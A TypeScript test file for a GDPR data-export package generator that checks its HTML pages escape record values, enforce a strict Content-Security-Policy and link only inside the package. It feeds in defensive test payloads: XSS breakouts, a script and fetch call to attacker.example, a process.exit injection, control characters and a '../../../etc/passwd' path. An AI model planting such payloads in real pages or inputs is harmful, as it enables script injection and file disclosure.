/** What a person reads of records: every page can be opened, nothing in a record is more than text, and nothing is left out. */
import { createHash } from "node:crypto";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { runInNewContext } from "node:vm";
import { Ajv2020 } from "ajv/dist/2020";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { day } from "../gdpr/day";
import type { SourceRecord } from "../sources/source";
import { makePackage } from "./make";
import { exporting, policy, record } from "./make.fixture";
import { mostTogether } from "./record-tables";
import { unpack } from "./unzip.fixture";

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "rightful-record-pages-"));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

const hostile = [
  `</td></table><script>alert("x")</script><img src="https://attacker.example/x" onerror=alert(1)>`,
  `</script><script src=https://attacker.example/x.js></script>`,
  `");fetch("https://attacker.example");("`,
  "line\nfeed\u2028and\u2029separators\u202e\u0000\u001b[31m",
  "`${process.exit()}`",
  "{found} {done}",
  "&lt;b&gt; &amp; ' \" \\ \\u003c",
];
const invoices: SourceRecord[] = hostile.map((text, i) => ({
  ...record(
    "invoice",
    { number: text, amount: -5.25, paid: i % 2 === 0, issued_on: "2026-03-05", "<b>": [text] },
    text,
  ),
  part: "invoices/invoice",
}));
const account: SourceRecord = {
  ...record("account", {
    ...Object.fromEntries(hostile.map((text, i) => [`${text} ${i}`, { [text]: [text, 1.5, null] }])),
    opened_at: "2018-05-01T08:12:00+00:00",
    born: "0001-01-01T00:00:00Z",
    attachments: [{ file: "../../../etc/passwd", name: "mine" }],
  }),
  part: "accounts/account",
};

async function packed(language: "en" | "de", read: Record<string, SourceRecord[]>) {
  const { file, key } = await makePackage({
    file: join(folder, `package-${language}-${Math.random()}`),
    reference: "R-0K3V9T2M7QX4B8NC",
    language,
    policy,
    person: "<i>Ana</i>",
    receivedOn: day("2026-11-23"),
    madeAt: day("2026-11-25"),
    exported: Object.keys(read).map((category) => exporting(category, null)),
    async *read({ category }) {
      yield* read[category] ?? [];
    },
    searches: [{ source: "shop", outcome: "searched" }],
    redacted: [],
    withheld: [],
    open: [],
    locked: [],
    paused: [],
    authority: { name: "<u>Aufsicht</u>", url: "https://www.datenschutz-berlin.de/" },
  });
  return unpack(file, key);
}
const all = { invoice: invoices, account: [account], newsletter: [] };

describe.each(["en", "de"] as const)("every page (%s)", (language) => {
  test("runs and loads nothing but what it was made with, whatever the records say", async () => {
    const entries = await packed(language, all);
    const pages = [...entries].filter(([name]) => name.endsWith(".html"));
    expect(pages).toHaveLength(6);
    for (const [name, html] of pages) {
      const script = name === "search.html" ? 1 : 0;
      expect(html.match(/<script/gi) ?? [], name).toHaveLength(script);
      expect(html).not.toMatch(/<(?:img|link|iframe|object|i>|u>)|\son\w+=(?!alert)|javascript:/i);
      const policies = [...html.matchAll(/http-equiv="Content-Security-Policy" content="([^"]*)"/g)].map(
        ([, one]) => one,
      );
      const own = (tag: string) => {
        const content = new RegExp(`<${tag}>(.*?)</${tag}>`, "s").exec(html)?.[1] ?? "";
        return `'sha256-${createHash("sha256").update(content).digest("base64")}'`;
      };
      const shut = `default-src 'none'; style-src ${own("style")}; base-uri 'none'; form-action 'none'`;
      const scripts = [
        `${shut}; script-src ${own("script")} 'strict-dynamic'`,
        `script-src ${own("script")} 'self' file:`,
      ];
      expect(policies).toEqual(script ? scripts : [shut]);
      // What leads somewhere leads into the package.
      for (const [, target = ""] of html.matchAll(/(?:href|src)="([^"]*)"/g)) {
        const path = new URL(target, `file:///p/${name}`).pathname.slice(3);
        expect(entries.has(path), `${name} → ${target}`).toBe(true);
      }
    }
  });
});

test("a page shows every value as text, with dates and numbers as the language writes them", async () => {
  const [english, german] = [await packed("en", all), await packed("de", all)];
  const [en, de] = [english, german].map((entries) => entries.get("records/invoice-1.html") ?? "");
  expect(en).toContain("&lt;/td&gt;&lt;/table&gt;&lt;script&gt;");
  expect(en).toContain("<td>5 Mar 2026</td>");
  expect(de).toContain("<td>05.03.2026</td>");
  expect(en).toContain("<td>-5.25</td><td>yes</td>");
  expect(de).toContain("<td>-5,25</td><td>ja</td>");
  const one = english.get("records/account-1.html") ?? "";
  // In the zone of the policy.
  expect(one).toContain("1 May 2018, 10:12");
  expect(one).toContain("File: ../../../etc/passwd; Name: mine");
  expect(english.get("records/newsletter-1.html")).toContain("No record was left when the copy was made.");
});

test("records stand under their system, and under its part where it has several", async () => {
  const headings = async (...parts: string[]) => {
    const entries = await packed("en", {
      invoice: parts.map((part) => ({ ...record("invoice", { a: 1 }, part), part })),
    });
    return [...(entries.get("records/invoice-1.html") ?? "").matchAll(/<h2>(.*?)<\/h2>/g)].map(([, text]) => text);
  };
  expect(await headings("invoices/invoice")).toEqual(["Shop database"]);
  expect(await headings("invoices/invoice", "payments/invoice")).toEqual([
    "Invoices · Shop database",
    "Payments · Shop database",
  ]);
  // As the policy calls it; where it does not, as the system does, made readable.
  expect(await headings("invoices/invoice", "shipments/invoice", "gift_cards/invoice")).toEqual([
    "Invoices · Shop database",
    "Parcels · Shop database",
    "Gift cards · Shop database",
  ]);
});

test("a browser has few records to lay out at once: every table stands in a block, and none holds more lines than a block may", async () => {
  const some = (values: Record<string, unknown>) =>
    Array.from({ length: 1_234 }, (_, at) => ({ ...record("invoice", { number: at, ...values }, String(at)), part: "i/invoice" })); // prettier-ignore
  const wide = Object.fromEntries(Array.from({ length: 9 }, (_, at) => [`field_${at}`, "x"]));
  for (const invoice of [some({}), some(wide)]) {
    const entries = await packed("en", { invoice });
    const pages = [...entries].filter(([name]) => name.startsWith("records/")).map(([, html]) => html);
    const seen: string[] = [];
    for (const html of pages) {
      const [outside = "", ...blocks] = html.split('<div class="block">');
      const behind = (blocks.at(-1) ?? "").split("</div>").slice(1).join("");
      expect(`${outside}${behind}`).not.toContain("<table");
      for (const block of blocks) {
        const lines = block.split("<tr").length - 1 - (block.split("<thead").length - 1);
        expect(lines).toBeGreaterThan(0);
        expect(lines).toBeLessThanOrEqual(mostTogether);
        seen.push(...[...block.matchAll(/ id="r(\d+)"/g)].map(([, no = ""]) => no));
      }
      // What is not near the screen waits; on paper nothing does.
      const [screen = "", paper = ""] = html.split("@media print");
      expect(screen).toContain(".block { content-visibility: auto;");
      expect(paper).toContain(".block { content-visibility: visible; }");
    }
    expect(seen).toEqual(invoice.map((_, at) => String(at + 1)));
  }
});

test("the text for the search is a script that does nothing but hand it over", async () => {
  const entries = await packed("en", all);
  const script = entries.get("search/invoice-1.js") ?? "";
  expect(script).not.toMatch(/<|\u2028|\u2029/);
  const taken: unknown[][] = [];
  runInNewContext(script, { packagePart: (...given: unknown[]) => taken.push(given) });
  expect(taken).toHaveLength(1);
  const [category, no, from, text] = taken[0]!;
  expect([category, no, from]).toEqual(["invoice", 1, 1]);
  const lines = String(text).split("\n");
  expect(lines).toHaveLength(invoices.length);
  expect(lines[0]).toContain(hostile[0]);
  expect(lines[0]).toContain("5 Mar 2026 (2026-03-05)");
});

test("each JSON file is what its schema says, and a field that is not in it is refused", async () => {
  const long = { ...record("newsletter", { id: 1 }, "1"), part: "news" };
  const entries = await packed("en", { ...all, newsletter: [long, { ...long, values: { id: null, more: [1] } }] });
  const ajv = new Ajv2020({ strict: true, strictTypes: false, allowUnionTypes: true });
  for (const category of Object.keys(all)) {
    const validate = ajv.compile(JSON.parse(entries.get(`schema/${category}.json`)!));
    const content = JSON.parse(entries.get(`data/${category}.json`)!);
    expect(validate(content), JSON.stringify(validate.errors)).toBe(true);
    content.records.push({ source: "shop", part: "news", key: "9", values: { other: 1 } });
    expect(validate(content)).toBe(false);
  }
});

test("one record of a megabyte still makes a page that opens, and says that there is more", async () => {
  const entries = await packed("en", { invoice: [record("invoice", { note: "<".repeat(1_000_000) }), ...invoices] });
  expect(entries.get("records/invoice-1.html")!.length).toBeLessThan(150 * 1024);
  expect(entries.get("records/invoice-1.html")).toContain("&lt; …</td>");
  expect(entries.get("records/invoice-2.html")).toContain('id="r2"');
  expect(JSON.parse(entries.get("data/invoice.json")!).records[0].values.note).toHaveLength(1_000_000);
});

test("the timeline counts by year and month, and what bears no date apart", async () => {
  const entries = await packed("en", {
    order: ["2018-05-02", "2018-05-30", "2026-03-05", "9999-12-31"].map((on, i) => ({
      ...record("order", { on }, String(i)),
      part: "else/order",
    })),
  });
  const text = (entries.get("timeline.html") ?? "").replace(/<style>.*?<\/style>/s, "").replace(/<[^>]+>/g, " ");
  expect(text).toContain("2018 · 2 records");
  expect(text).toMatch(/May\s+2\s+Orders\s+2/);
  expect(text).toContain("1 record bears no date");
  expect(entries.get("timeline.html")).toContain('href="records/order-1.html"');
});
